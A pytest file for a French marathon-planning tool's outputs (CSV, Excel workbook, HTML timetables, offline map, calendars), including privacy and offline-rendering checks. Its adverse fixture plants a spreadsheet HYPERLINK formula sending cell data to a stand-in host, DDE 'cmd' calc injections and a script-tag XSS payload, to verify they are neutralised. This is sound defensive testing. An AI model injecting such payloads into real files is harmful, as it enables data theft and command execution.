"""The outputs of a marathon plan (issue 12): tables, workbook, pages, map, calendars.

The sample plan (M2 at Aiguillon) is built once and written twice, internal
and public; an adverse copy of the sample (formulas and markup in the
files, an unreadable availability, premises too small for every team) is
built once too. Pages are also rendered by headless Chromium, offline.
"""

from __future__ import annotations

import html
import os
import re
import shutil
from datetime import datetime
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd
import pytest
from icalendar import Calendar

from mitlib.core.config import EXAMPLE_DIR
from mitlib.data.fictional import FICTIONAL_COLUMN, FICTIONAL_NOTICE
from mitlib.data.privacy import find_personal_values, personal_values
from mitlib.planning.calendars import french_date, french_time
from mitlib.planning.plan import (
    PUBLIC_SESSION_COLUMNS,
    SESSION_COLUMNS,
    WELCOME,
    build_plan,
)
from mitlib.planning.plan_inputs import load_plan_inputs
from mitlib.planning.writing import write_plan_outputs
from mitlib.render.offline import external_references

PARIS = ZoneInfo("Europe/Paris")
FORMULA_TITLE = '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez ici")'
SCRIPT_NAME = '<script>alert("nom")</script> Dupont'
FORMULA_ORGANISATION = "@SOMME(1+1)*cmd|' /C calc'!A0"
BAD_HOURS = "=cmd|' /C calc'!A0"


def read_csv(path) -> pd.DataFrame:
    return pd.read_csv(
        path, sep=";", dtype=str, keep_default_na=False, encoding="utf-8-sig"
    )


def page_text(path) -> str:
    """A page's HTML with its entities decoded (&#x27; → ')."""
    return html.unescape(path.read_text(encoding="utf-8"))


def files_of(folder) -> list:
    return sorted(p for p in folder.rglob("*") if p.is_file())


def xlsx_texts(path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.fixture(scope="session")
def sample(tmp_path_factory):
    plan = build_plan(load_plan_inputs())
    root = tmp_path_factory.mktemp("plan_sortie")
    out = SimpleNamespace(plan=plan)
    for name, public in (("internal", False), ("public", True)):
        folder = root / name
        folder.mkdir()
        written = write_plan_outputs(plan, folder, public=public)
        setattr(out, name, folder)
        setattr(out, f"{name}_written", written)
    return out


@pytest.fixture(scope="session")
def adverse(tmp_path_factory):
    """The sample with formulas and markup planted, and premises too small."""
    src = tmp_path_factory.mktemp("plan_hostile")
    for name in ("locaux", "coachs", "projets"):
        shutil.copy(EXAMPLE_DIR / f"{name}.csv", src / f"{name}.csv")
    event = (EXAMPLE_DIR / "marathon.yaml").read_text(encoding="utf-8")
    event = event.replace("surface_par_equipe_m2: 25", "surface_par_equipe_m2: 60")
    (src / "marathon.yaml").write_text(event, encoding="utf-8")
    projets = read_csv(src / "projets.csv")
    projets.loc[projets["id"] == "M2-P01", "titre"] = FORMULA_TITLE
    projets.to_csv(src / "projets.csv", sep=";", index=False, encoding="utf-8-sig")
    coachs = read_csv(src / "coachs.csv")
    coachs.loc[coachs["id"] == "K-046", "nom"] = SCRIPT_NAME
    coachs.loc[coachs["id"] == "K-046", "organisation"] = FORMULA_ORGANISATION
    coachs.loc[coachs["id"] == "K-040", "disponibilites"] = BAD_HOURS
    coachs.to_csv(src / "coachs.csv", sep=";", index=False, encoding="utf-8-sig")
    inputs = load_plan_inputs(
        src / "marathon.yaml",
        src / "locaux.csv",
        src / "coachs.csv",
        src / "projets.csv",
    )
    plan = build_plan(inputs)
    folder = tmp_path_factory.mktemp("plan_hostile_sortie")
    write_plan_outputs(plan, folder)
    return SimpleNamespace(plan=plan, folder=folder)


# ---------------------------------------------------------------- tables


def test_planning_csv_has_one_row_per_session(sample):
    plan = sample.plan
    internal = read_csv(sample.internal / "planning.csv")
    public = read_csv(sample.public / "planning.csv")
    assert len(internal) == len(plan.visits.sessions) == 33
    assert list(internal.columns) == SESSION_COLUMNS
    assert list(public.columns) == PUBLIC_SESSION_COLUMNS
    starts = {
        (s.equipe, s.coach, f"{plan.event.slot_start(s.debut):%d/%m/%Y %H:%M}")
        for s in plan.visits.sessions.itertuples()
    }
    written = set(
        zip(
            public["equipe"],
            public["coach"],
            public["date"] + " " + public["debut"],
            strict=True,
        )
    )
    assert written == starts
    # the sample's teams all have premises: the address is the premises'
    row = public[public["equipe"] == "M2-P01"].iloc[0]
    assert (row["local"], row["adresse"]) == ("L-004", "55 rue Sainte-Catherine")


def test_jury_csv_is_the_drawn_order(sample):
    jury = read_csv(sample.internal / "jury.csv")
    assert list(jury["equipe"]) == [str(e) for e in sample.plan.jury["equipe"]]
    assert list(jury["ordre"]) == [str(o) for o in sample.plan.jury["ordre"]]
    assert jury["debut"].iloc[0] == "18:00" and list(jury["projet"]).count("Pause") == 2


def test_files_written(sample):
    plan, folder = sample.plan, sample.internal
    names = {p.relative_to(folder).as_posix() for p in files_of(folder)}
    assert names == {p.relative_to(folder).as_posix() for p in sample.internal_written}
    assert {"planning.csv", "jury.csv", "provenance.csv", "planning.xlsx"} <= names
    assert {"index.html", "carte_locaux.html"} <= names
    # nothing to report on the sample: no empty files
    assert not names & {"non_placees.csv", "locaux_a_solliciter.csv", "problemes.csv"}
    assert {f"equipes/{t}.html" for t in plan.teams} <= names
    coaches = sorted({c for _, c in plan.visits.pairs})
    assert len(coaches) == 19
    assert {f"coachs/{c}.html" for c in coaches} <= names
    assert {f"locaux/{p}.html" for p in ("L-003", "L-004", "L-008")} <= names
    calendars = [n for n in names if n.startswith("calendriers/")]
    assert len(calendars) == len(plan.teams) + len(coaches) == 30
    provenance = read_csv(folder / "provenance.csv")
    assert FICTIONAL_NOTICE in set(provenance["valeur"])


def test_workbook_sheets(sample):
    book = openpyxl.load_workbook(sample.public / "planning.xlsx")
    assert book.sheetnames == [
        "Séances", "Par équipe", "Par coach", "Par local", "Locaux", "Jury",
        "Non placées", "Problèmes", "Messages", "Provenance",
    ]  # fmt: skip
    assert book["Séances"].max_row == 34  # header + 33 sessions
    grid = list(book["Par équipe"].iter_rows(values_only=True))
    head = grid[0]
    assert head[:3] == ("creneau", "programme", "M2-P01 Location de canoës")
    rows = {r[0]: r for r in grid[1:]}
    assert rows["ven 09:00"][1] == "Ouverture"
    # each session fills its 3 slots of 15 min in its team's column
    plan = sample.plan
    s = plan.visits.sessions.iloc[0]
    col = next(i for i, h in enumerate(head) if h.startswith(s.equipe))
    for k in range(s.debut, s.fin):
        assert rows[plan.event.slot_label(k)][col] == s.coach
    coach_grid = list(book["Par coach"].iter_rows(values_only=True))
    assert coach_grid[0][2:] == tuple(sorted({c for _, c in plan.visits.pairs}))
    locaux = pd.DataFrame(
        list(book["Locaux"].iter_rows(values_only=True))[1:],
        columns=[c.value for c in book["Locaux"][1]],
    )
    assert locaux.groupby("local").size().to_dict() == {
        "L-003": 5,
        "L-004": 4,
        "L-008": 2,
    }


# ---------------------------------------------------------------- pages


def test_team_timetable(sample):
    plan = sample.plan
    page = page_text(sample.internal / "equipes/M2-P01.html")
    assert "<h1>Location de canoës</h1>" in page
    assert "55 rue Sainte-Catherine, Aiguillon" in page
    assert "moins d'une minute à pied depuis la mairie d'Aiguillon" in page
    assert "vendredi 12 mars 2027" in page and "samedi 13 mars 2027" in page
    for block in ("Ouverture", "Repas", "Répétition des pitchs", "Jury"):
        assert f"{block} (programme commun)" in page
    mine = plan.visits.sessions[plan.visits.sessions["equipe"] == "M2-P01"]
    assert len(mine) == 3
    for s in mine.itertuples():
        start, end = plan.event.slot_start(s.debut), plan.event.slot_start(s.fin)
        assert f"{french_time(start)} – {french_time(end)}" in page
        assert f"{s.coach} · " in page
        assert plan.inputs.coaches.at[s.coach, "nom"] in page  # internal
    pitch = plan.jury[plan.jury["equipe"] == "M2-P01"].iloc[0]
    assert f"passage n°\u00a0{pitch['ordre']}" in page
    assert "Sacha Imaginaire" in page  # the holder, internal only
    assert FICTIONAL_NOTICE in page and "ne pas diffuser" in page
    public = page_text(sample.public / "equipes/M2-P01.html")
    assert "Sacha Imaginaire" not in public and "Version publique" in public
    assert all(plan.inputs.coaches.at[c, "nom"] not in public for c in mine["coach"])


def test_coach_timetable_says_where_to_walk(sample):
    plan = sample.plan
    sessions = plan.visits.sessions
    mine = sessions[sessions["coach"] == "K-046"].sort_values("debut")
    assert [plan.team_premises[t] for t in mine["equipe"]] == ["L-004", "L-003"]
    page = page_text(sample.public / "coachs/K-046.html")
    assert "<h1>Coach K-046</h1>" in page
    assert "Service développement économique du Confluent" in page
    assert "Office de réservation des hébergeurs" in page  # the teams visited
    assert "Chambres d'hôtes dans une maison de maître" in page
    nxt = french_time(plan.event.slot_start(mine["debut"].iloc[1]))
    assert (
        f"Séance suivante à {nxt} : 38 rue Sainte-Catherine, Aiguillon, 2 min à pied"
        in page
    )
    assert "Dernière séance" in page
    internal = page_text(sample.internal / "coachs/K-046.html")
    assert "<h1>Marie-Pierre Fictif</h1>" in internal


def test_premises_page(sample):
    plan = sample.plan
    page = page_text(sample.public / "locaux/L-008.html")
    assert "<h1>30 rue Sainte-Catherine, Aiguillon</h1>" in page
    teams = [t for t, p in plan.team_premises.items() if p == "L-008"]
    assert teams == ["M2-P05", "M2-P06"]
    for t in teams:
        assert plan.title(t) in page
    coming = plan.visits.sessions[plan.visits.sessions["equipe"].isin(teams)]
    assert len(coming) == 6
    for s in coming.itertuples():
        assert f"Coach {s.coach}</a>" in page
        assert french_time(plan.event.slot_start(s.debut)) in page


def test_index_links_everything_with_words(sample):
    plan = sample.plan
    page = page_text(sample.public / "index.html")
    assert "<h1>Plan du marathon M2 à Aiguillon</h1>" in page
    assert "33 séances placées sur 33 demandées" in page
    links = dict(re.findall(r'<a href="([^"]+)">([^<]+)</a>', page))
    for t in plan.teams:
        assert links[f"equipes/{t}.html"] == plan.title(t)
        assert links[f"calendriers/equipe-{t}.ics"] == "agenda"
    assert links["coachs/K-046.html"] == "Coach K-046"
    assert links["locaux/L-003.html"] == "38 rue Sainte-Catherine, Aiguillon"
    assert {"carte_locaux.html", "planning.xlsx", "planning.csv"} <= set(links)
    assert not [t for t in links.values() if re.search(r"\.(html|ics|csv|xlsx)$", t)]
    # the jury table, in the drawn order
    body = page[page.index("Ordre de passage") :]
    positions = [body.index(f"<td>{t}</td>") for t in plan.jury["equipe"] if t]
    assert positions == sorted(positions)
    assert "Aucun : toutes les contraintes sont respectées." in page


def test_every_page_says_fictional_and_version(sample):
    for folder, notice in (
        (sample.internal, "Document interne"),
        (sample.public, "Version publique"),
    ):
        pages = [
            p
            for p in files_of(folder)
            if p.suffix == ".html" and p.name != "carte_locaux.html"
        ]
        assert len(pages) == 1 + 11 + 19 + 3
        for p in pages:
            text = page_text(p)
            assert FICTIONAL_NOTICE in text and notice in text, p
            assert "mitlib-provenance" in text and "nan" not in text.lower().split()


def test_french_dates():
    assert french_date(datetime(2027, 3, 12)) == "vendredi 12 mars 2027"
    assert french_date(datetime(2027, 8, 1)) == "dimanche 1er août 2027"
    assert french_time(datetime(2027, 3, 12, 9, 5)) == "9\u00a0h\u00a005"


# ---------------------------------------------------------------- map


def test_map_is_offline_with_teams_and_routes(sample):
    plan = sample.plan
    raw = (sample.internal / "carte_locaux.html").read_text(encoding="utf-8")
    assert external_references(raw) == []
    text = html.unescape(raw)
    assert "vol d'oiseau, distance ×1,3" in text
    for t in plan.teams:
        assert plan.title(t) in text
    assert text.count("L.polyline(") == 1  # L-004 and L-008 are at the welcome point
    assert "Accueil → L-003 : 2 min à pied" in text
    assert FICTIONAL_COLUMN in text
    assert "Locaux à solliciter" not in text


# ---------------------------------------------------------------- calendars


def test_team_calendar_parses(sample):
    plan = sample.plan
    cal = Calendar.from_ical(
        (sample.public / "calendriers/equipe-M2-P01.ics").read_bytes()
    )
    assert str(cal["X-WR-CALNAME"]).startswith("Marathon M2 — Location de canoës")
    assert [z["TZID"] for z in cal.walk("VTIMEZONE")] == ["Europe/Paris"]
    events = cal.walk("VEVENT")
    blocks = sum(len(list(_runs(b.mask))) for b in plan.event.blocks)
    assert blocks == 6
    assert len(events) == 3 + blocks + 1  # sessions, blocks, pitch
    mine = plan.visits.sessions[plan.visits.sessions["equipe"] == "M2-P01"]
    expected = sorted(
        plan.event.slot_start(d).replace(tzinfo=PARIS) for d in mine["debut"]
    )
    coaching = [e for e in events if "Coaching" in str(e["SUMMARY"])]
    starts = sorted(e.decoded("DTSTART") for e in coaching)
    assert starts == expected
    assert all(str(s.tzinfo) == "Europe/Paris" for s in starts)
    assert all(
        str(e["LOCATION"]) == "55 rue Sainte-Catherine, Aiguillon" for e in coaching
    )
    assert all(
        str(e["SUMMARY"]).startswith(
            f"[{FICTIONAL_COLUMN}] Coaching : Location de canoës"
        )
        for e in coaching
    )
    assert len({str(e["UID"]) for e in events}) == len(events)
    pitch = [e for e in events if "Pitch" in str(e["SUMMARY"])]
    row = plan.jury[plan.jury["equipe"] == "M2-P01"].iloc[0]
    assert f"{pitch[0].decoded('DTSTART'):%H:%M}" == row["debut"]
    stamps = {e.decoded("DTSTAMP") for e in events}
    assert stamps == {datetime(2027, 3, 12, 9, tzinfo=PARIS)}


def _runs(mask):
    from mitlib.planning.visit_model import runs

    return runs(mask)


def test_coach_calendar_parses_and_shares_uids(sample):
    plan = sample.plan
    cal = Calendar.from_ical(
        (sample.internal / "calendriers/coach-K-046.ics").read_bytes()
    )
    events = cal.walk("VEVENT")
    mine = plan.visits.sessions[plan.visits.sessions["coach"] == "K-046"]
    assert len(events) == len(mine) == 2
    assert sorted(e.decoded("DTSTART") for e in events) == sorted(
        plan.event.slot_start(d).replace(tzinfo=PARIS) for d in mine["debut"]
    )
    assert "Marie-Pierre Fictif" in str(cal["X-WR-CALNAME"])  # internal
    team = Calendar.from_ical(
        (sample.internal / "calendriers/equipe-M2-P03.ics").read_bytes()
    )
    assert {str(e["UID"]) for e in events} & {
        str(e["UID"]) for e in team.walk("VEVENT")
    }


# ---------------------------------------------------------------- privacy, reruns


def test_public_outputs_hold_no_personal_data(sample):
    plan = sample.plan
    values = personal_values(
        {n: EXAMPLE_DIR / f"{n}.csv" for n in ("locaux", "coachs", "projets")}
    )
    assert find_personal_values(files_of(sample.public), values) == []
    assert find_personal_values(files_of(sample.internal), values)  # the test can fail
    names = {plan.inputs.coaches.at[c, "nom"] for _, c in plan.visits.pairs}
    names |= set(plan.inputs.teams["porteur"])
    assert len(names) > 20
    texts = xlsx_texts(sample.public / "planning.xlsx")
    for path in files_of(sample.public / "calendriers"):
        cal = Calendar.from_ical(path.read_bytes())
        texts += [str(v) for c in cal.walk() for v in c.values()]
    joined = "\n".join(texts)
    assert [n for n in names if n in joined] == []
    internal = "\n".join(xlsx_texts(sample.internal / "planning.xlsx"))
    assert "Marie-Pierre Fictif" in internal


def test_rerun_is_byte_identical(sample, tmp_path):
    write_plan_outputs(sample.plan, tmp_path)
    first = {
        p.relative_to(sample.internal): p.read_bytes()
        for p in files_of(sample.internal)
    }
    again = {p.relative_to(tmp_path): p.read_bytes() for p in files_of(tmp_path)}
    assert first.keys() == again.keys()
    assert [k for k in first if first[k] != again[k]] == []


# ---------------------------------------------------------------- adverse inputs


def test_formulas_are_neutralised_and_markup_escaped(adverse):
    folder = adverse.folder
    raw = (folder / "planning.csv").read_text(encoding="utf-8-sig")
    assert f"'{FORMULA_TITLE}" in raw.replace('""', '"')
    assert f"'{FORMULA_ORGANISATION}" in raw
    book = openpyxl.load_workbook(folder / "planning.xlsx")
    cells = [
        c
        for row in book["Séances"].iter_rows()
        for c in row
        if c.value == FORMULA_TITLE
    ]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not [
        c
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    problems = read_csv(folder / "problemes.csv")
    assert list(problems["valeur"]) == [f"'{BAD_HOURS}"]
    for page in files_of(folder):
        if page.suffix == ".html":
            text = page.read_text(encoding="utf-8")
            assert "<script>alert" not in text, page
    coach = (folder / "coachs/K-046.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&quot;nom&quot;)&lt;/script&gt; Dupont" in coach
    team = (folder / "equipes/M2-P01.html").read_text(encoding="utf-8")
    assert "<h1>=HYPERLINK(&quot;http://exemple.invalid/?d=&quot;&amp;A1;" in team
    assert external_references((folder / "carte_locaux.html").read_text("utf-8")) == []


def test_unplaced_sessions_and_missing_premises(adverse):
    plan, folder = adverse.plan, adverse.folder
    unplaced = read_csv(folder / "non_placees.csv")
    assert (
        set(unplaced["coach"]) == {"K-040"}
        and len(unplaced) == len(plan.visits.unplaced) > 0
    )
    assert all("aucune disponibilité" in m for m in unplaced["motif"])
    lacking = [t for t, p in plan.team_premises.items() if p == WELCOME]
    assert len(lacking) == plan.premises.missing > 0
    asked = read_csv(folder / "locaux_a_solliciter.csv")
    assert list(asked["local"]) == list(plan.premises.suggestions["local"])
    assert (
        "Locaux à solliciter"
        in openpyxl.load_workbook(folder / "planning.xlsx").sheetnames
    )
    team = page_text(folder / f"equipes/{lacking[0]}.html")
    assert "aucun pour l'instant : l'équipe est attendue au point d'accueil" in team
    index = (folder / "index.html").read_text(encoding="utf-8")
    assert "Locaux manquants" in index and "Séances non placées" in index
    assert "colonne disponibilites" in index
    carte = (folder / "carte_locaux.html").read_text(encoding="utf-8")
    assert f"Locaux \\u00e0 solliciter ({len(asked)})" in carte  # the layer
    assert carte.count('"fillColor": "#e08a00"') == len(asked)


# ---------------------------------------------------------------- Chromium

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
A4_PRINTABLE_PX = 680  # 210 mm − 2 × 15 mm of margin, at 96 px per inch


@pytest.fixture(scope="module")
def browser():
    if not os.path.exists(CHROMIUM):
        if os.environ.get("CI"):
            raise RuntimeError("Chromium absent : .ci/run doit l'installer")
        pytest.skip("Chromium absent (apt-get install chromium)")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"]
        )
        yield b
        b.close()


def open_offline(browser, path, width=1000):
    context = browser.new_context(
        offline=True, viewport={"width": width, "height": 900}
    )
    page = context.new_page()
    errors, remote = [], []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.route(
        "**/*",
        lambda route: (
            route.continue_()
            if route.request.url.startswith(("file:", "data:", "about:"))
            else (remote.append(route.request.url), route.abort())
        ),
    )
    page.goto(path.as_uri())
    return page, errors, remote


def test_timetable_prints_on_a4(browser, sample, tmp_path):
    page, errors, remote = open_offline(
        browser, sample.internal / "equipes/M2-P01.html"
    )
    tables = page.locator("table.agenda")
    assert tables.count() == 2 and tables.first.is_visible()
    assert page.locator("table.agenda tr.seance").count() == 3
    page.emulate_media(media="print")
    page.set_viewport_size({"width": A4_PRINTABLE_PX, "height": 960})
    assert page.evaluate("document.documentElement.scrollWidth") <= A4_PRINTABLE_PX
    for box in (t.bounding_box() for t in tables.all()):
        assert box["x"] >= 0 and box["x"] + box["width"] <= A4_PRINTABLE_PX
    # no time overflows its column
    overflow = page.evaluate(
        "[...document.querySelectorAll('td.heure')]"
        ".filter(td => td.scrollWidth > td.clientWidth).length"
    )
    assert overflow == 0
    assert page.locator("nav.retour").is_hidden()
    pdf = page.pdf(path=tmp_path / "equipe.pdf", format="A4")
    assert pdf.startswith(b"%PDF") and len(pdf) > 10_000
    assert errors == [] and remote == []


def test_index_and_map_render_offline(browser, sample):
    page, errors, remote = open_offline(browser, sample.public / "index.html")
    assert page.title() == "Plan du marathon M2 à Aiguillon"
    assert page.locator("table.mit-tableau").count() == 2
    assert page.locator("a").count() > 11 + 19 + 3
    page.locator("a", has_text="Location de canoës").first.click()
    page.wait_for_load_state()
    assert page.title() == "Location de canoës — emploi du temps"
    assert errors == [] and remote == []
    page, errors, remote = open_offline(browser, sample.public / "carte_locaux.html")
    page.wait_for_selector(".leaflet-marker-icon")
    assert page.locator(".leaflet-marker-icon").count() == 2  # 3 premises, 2 places
    assert page.locator(".mitlib-legende li").count() == 11
    assert errors == [] and remote == []
